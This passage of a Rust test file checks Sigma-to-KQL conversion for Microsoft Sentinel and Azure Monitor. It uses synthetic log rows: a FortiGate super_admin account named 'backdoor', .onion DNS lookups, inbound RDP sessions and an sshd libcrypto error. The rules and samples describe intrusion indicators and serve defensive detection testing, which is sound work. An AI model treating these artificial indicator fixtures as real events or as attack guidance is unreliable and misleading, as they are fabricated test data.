            // FTNTFGT extensions in AdditionalExtensions (FortiOS log message
            // reference, "Event log support for CEF", event 44547); and the
            // FortinetFortiGate-prefixed CEF of Microsoft's sample rows
            // (Azure-Sentinel Sample Data/CEF/Fortigate.json), action included.
            hits: vec![
                json!({"DeviceVendor": "Fortinet", "DeviceProduct": "Fortigate", "DeviceVersion": "v7.2.4", "DeviceEventClassID": "44547",
                    "Activity": "event:system Add", "LogSeverity": "3", "DeviceAction": "Add", "DeviceExternalID": "FGVM02TM00000001",
                    "DestinationUserName": "admin", "SourceProcessName": "GUI(10.0.0.5)", "Message": "Add system.admin backdoor",
                    "AdditionalExtensions": "FTNTFGTlogid=0100044547;cat=event:system;FTNTFGTsubtype=system;FTNTFGTlevel=information;FTNTFGTvd=root;FTNTFGTeventtime=1700000000;FTNTFGTlogdesc=Object attribute configured;FTNTFGTcfgtid=1311;FTNTFGTcfgpath=system.admin;FTNTFGTcfgobj=backdoor;FTNTFGTcfgattr=accprofile[super_admin]vdom[root]"}),
                json!({"DeviceVendor": "Fortinet", "DeviceProduct": "Fortigate", "DeviceVersion": "v6.4.7", "DeviceEventClassID": 44547,
                    "Activity": "event:system Add", "LogSeverity": 2, "Computer": "Contoso-MainFW",
                    "AdditionalExtensions": "FortinetFortiGateeventtime=1647873918304240923;FortinetFortiGatetz=-0700;FortinetFortiGatelogid=0100044547;cat=event:system;FortinetFortiGatesubtype=system;FortinetFortiGatelevel=information;FortinetFortiGatevd=root;FortinetFortiGatelogdesc=Object attribute configured;FortinetFortiGateaction=Add;FortinetFortiGatecfgpath=system.admin;FortinetFortiGatecfgobj=svc"}),
            ],
            misses: vec![
                // An edit, not an addition.
                json!({"DeviceVendor": "Fortinet", "DeviceProduct": "Fortigate", "Activity": "event:system Edit", "DeviceAction": "Edit",
                    "AdditionalExtensions": "FTNTFGTlogid=0100044547;cat=event:system;FTNTFGTsubtype=system;FTNTFGTcfgpath=system.admin;FTNTFGTcfgobj=admin"}),
                // Another path whose name starts the same.
                json!({"DeviceVendor": "Fortinet", "DeviceProduct": "Fortigate", "Activity": "event:system Add", "DeviceAction": "Add",
                    "AdditionalExtensions": "FTNTFGTlogid=0100044547;FTNTFGTcfgpath=system.admin-profile;FTNTFGTcfgobj=x"}),
                // The path only inside another field's value.
                json!({"DeviceVendor": "Fortinet", "DeviceProduct": "Fortigate", "Activity": "event:system Add", "DeviceAction": "Add",
                    "AdditionalExtensions": "FTNTFGTlogid=0100044547;FTNTFGTcfgpath=firewall.address;FTNTFGTlogdesc=cfgpath=system.admin"}),
                // Another vendor's CEF with the same keys.
                json!({"DeviceVendor": "Palo Alto Networks", "DeviceProduct": "PAN-OS", "Activity": "event:system Add", "DeviceAction": "Add",
                    "AdditionalExtensions": "FTNTFGTcfgpath=system.admin"}),
            ],
        },
        Case {
            name: "zeek-dns-imdns",
            rule: "title: t\nlogsource: {product: zeek, service: dns}\ndetection:\n  sel:\n    query|endswith: '.onion'\n  filter:\n    qtype_name: [ns, mx]\n  filter_netbios:\n    id.resp_p: [137, 138, 139]\n  condition: sel and not 1 of filter*\n",
            table: "imDns",
            // Rows as Microsoft's Corelight Zeek parser (vimDnsCorelightZeek 0.5) writes them into imDns.
            hits: vec![json!({"EventVendor": "Corelight", "EventProduct": "Zeek", "EventSchema": "Dns", "EventType": "Query", "EventSubType": "response",
                "SrcIpAddr": "10.0.0.5", "SrcPortNumber": 53211, "DstIpAddr": "10.0.0.1", "DstPortNumber": 53, "NetworkProtocol": "udp",
                "DnsQuery": "duskgytldkxiuqc6.onion", "DnsQueryType": 16, "DnsQueryTypeName": "TXT", "DnsQueryClass": 1, "DnsQueryClassName": "IN",
                "DnsResponseCode": 3, "DnsResponseCodeName": "NXDOMAIN", "EventResultDetails": "NXDOMAIN", "EventResult": "Failure", "DnsFlagsZ": false})],
            misses: vec![
                json!({"EventVendor": "Corelight", "EventProduct": "Zeek", "SrcIpAddr": "10.0.0.5", "DstPortNumber": 53,
                    "DnsQuery": "duskgytldkxiuqc6.onion", "DnsQueryType": 2, "DnsQueryTypeName": "NS"}),
                json!({"EventVendor": "Corelight", "EventProduct": "Zeek", "SrcIpAddr": "10.0.0.5", "DstPortNumber": 137,
                    "DnsQuery": "duskgytldkxiuqc6.onion", "DnsQueryType": 32, "DnsQueryTypeName": "NIMLOC"}),
                json!({"EventVendor": "Corelight", "EventProduct": "Zeek", "DstPortNumber": 53, "DnsQuery": "www.example.com", "DnsQueryTypeName": "A"}),
                // Another source of imDns: not Zeek's log.
                json!({"EventVendor": "Microsoft", "EventProduct": "Sysmon", "DnsQuery": "duskgytldkxiuqc6.onion", "DnsQueryTypeName": "A"}),
            ],
        },
        Case {
            name: "zeek-conn-imnetworksession",
            rule: "title: t\nlogsource: {product: zeek, service: conn}\ndetection:\n  sel:\n    id.resp_p: 3389\n    proto: tcp\n    resp_bytes|gt: 1000\n  filter:\n    id.orig_h|cidr: 10.0.0.0/8\n  condition: sel and not filter\n",
            table: "imNetworkSession",
            // Rows as Microsoft's Corelight Zeek parser (vimNetworkSessionCorelightZeek 0.2) writes
            // them into imNetworkSession: the protocol upper-cased, the byte counts as numbers.
            hits: vec![json!({"EventVendor": "Corelight", "EventProduct": "Zeek", "EventSchema": "NetworkSession", "EventType": "Flow",
                "SrcIpAddr": "198.51.100.7", "SrcPortNumber": 50412, "DstIpAddr": "10.0.0.20", "DstPortNumber": 3389,
                "NetworkProtocol": "TCP", "NetworkApplicationProtocol": "rdp", "SrcBytes": 4000, "DstBytes": 250000,
                "SrcPackets": 40, "DstPackets": 300, "EventOriginalUid": "CHhAvVGS1DHFjwGM9", "NetworkDirection": "Inbound"})],
            misses: vec![
                json!({"EventVendor": "Corelight", "EventProduct": "Zeek", "SrcIpAddr": "10.0.0.5", "DstIpAddr": "10.0.0.20",
                    "DstPortNumber": 3389, "NetworkProtocol": "TCP", "DstBytes": 250000}),
                json!({"EventVendor": "Corelight", "EventProduct": "Zeek", "SrcIpAddr": "198.51.100.7", "DstIpAddr": "10.0.0.20",
                    "DstPortNumber": 3389, "NetworkProtocol": "TCP", "DstBytes": 0}),
                json!({"EventVendor": "Microsoft", "EventProduct": "Sysmon", "SrcIpAddr": "198.51.100.7", "DstIpAddr": "10.0.0.20",
                    "DstPortNumber": 3389, "NetworkProtocol": "TCP", "DstBytes": 250000}),
            ],
        },
        Case {
            name: "syslog",
            rule: "title: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  keywords:\n    - 'error in libcrypto'\n  condition: keywords\n",
            table: "Syslog",
            hits: vec![json!({"ProcessName": "sshd", "SyslogMessage": "error: error in libcrypto", "Facility": "auth"})],
            misses: vec![json!({"ProcessName": "sshd", "SyslogMessage": "Accepted publickey for root", "Facility": "auth"})],
        },
    ]
}

/// The case above runs on sentinel_asim only if its query reads the native
/// table: an ASIM schema that lacks a field the rule tests gives way to it.
#[test]
fn asim_reads_the_native_table_for_a_field_its_schema_lacks() {
    let Some(p) = sigmaplay_core::pipeline::builtin("sentinel_asim") else { panic!("sentinel_asim") };
    let Some(c) = cases().into_iter().find(|c| c.name == "security-logon-type") else { panic!("case") };
    let rule = parse_rule(c.rule).unwrap_or_else(|d| panic!("{d:?}"));
    let conv = convert(&rule, &p, &Placeholders::new());
    assert_eq!(conv.table.as_deref(), Some("SecurityEvent"), "{:#?}", conv.diagnostics);
    let note = conv.diagnostics.iter().find(|d| d.code == "native-table");
    assert!(note.is_some_and(|d| d.message.contains("LogonType")), "{:#?}", conv.diagnostics);
}

#[test]
fn native_table_rows_match_as_the_rule_says() {
    let mut failures = Vec::new();
    let mut oracle: BTreeMap<&str, Oracle> = BTreeMap::new();
    for target in ["azure_monitor", "sentinel_asim"] {
        let Some(p) = sigmaplay_core::pipeline::builtin(target) else { panic!("{target}") };
        for c in cases() {
            // An ASIM function's rows (Zeek's DNS log in imDns): sentinel_asim only.
            if c.table.starts_with("im") && target != "sentinel_asim" {
                continue;
            }
            let rule = parse_rule(c.rule).unwrap_or_else(|d| panic!("{}: {d:?}", c.name));
            let conv = convert(&rule, &p, &Placeholders::new());
            let errors: Vec<_> = conv.diagnostics.iter().filter(|d| d.is_error()).collect();
            assert!(errors.is_empty(), "{target} {}: {errors:#?}", c.name);
            let q = conv.queries.first().unwrap_or_else(|| panic!("{target} {}: no query", c.name));
            // sentinel_asim keeps its ASIM schemas where one fits (the web logs): only the native
            // fallbacks here, and the ASIM rows a case gives.
            if conv.table.as_deref() != Some(c.table) {
                assert_eq!(target, "sentinel_asim", "{}: {:?}", c.name, conv.table);
                continue;
            }
            let rows: Vec<Value> = c.hits.iter().chain(&c.misses).cloned().collect();
            let ev = kusto::evaluate_matches(q, &rows);
            assert!(ev.ok(), "{target} {}: {:?}\n{q}", c.name, ev.diagnostics);
            let got = ev.matched(rows.len());
            let expected: Vec<usize> = (0..c.hits.len()).collect();
            let ours: Vec<usize> = got.iter().enumerate().filter(|(_, m)| **m).map(|(k, _)| k).collect();
            if ours != expected {
                failures.push(format!("{target} {}: returns rows {ours:?}, expected {expected:?}\n  {q}", c.name));
            }
            let id = format!("{target}/{}", c.name);
            let o = oracle.entry(target).or_default();
            o.1.insert(id.clone(), ours);
            o.0.push(json!({"id": id, "query": q, "events": rows, "expected": expected}).to_string());
        }
    }
    let tool = shared().join("tools/kql-run/kql-run");
    if tool.exists() {
        for (target, (lines, ours)) in &oracle {
            let Some(results) = kql_run(&tool, &format!("native-{target}"), lines) else { continue };
            // What kql-run cannot run is said, not counted: `* contains` (keywords) is not
            // implemented there, and DuckDB cannot hold AzureDiagnostics, whose documented
            // columns include names that differ only in case (clientIP_s, clientIp_s).
            let (results, skipped): (Vec<Value>, Vec<Value>) = results.into_iter().partition(|r| {
                !r["error"]
                    .as_str()
                    .is_some_and(|e| e.starts_with("KqlUnsupportedError") || e.starts_with("CatalogException"))
            });
            for r in &skipped {
                eprintln!("native_tables[{target}]: kql-run cannot run {}: {}", r["id"], r["error"]);
            }
            let (same, differ) = compare_with_kql_run(&results, |id| ours.get(id).cloned(), target);
            eprintln!(
                "native_tables[{target}]: kql-run gives our evaluator's answer on {same} of {} cases",
                results.len()
            );
            failures.extend(differ);
        }
    } else {
        eprintln!("native_tables: {} not found, kql-run part skipped", tool.display());
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
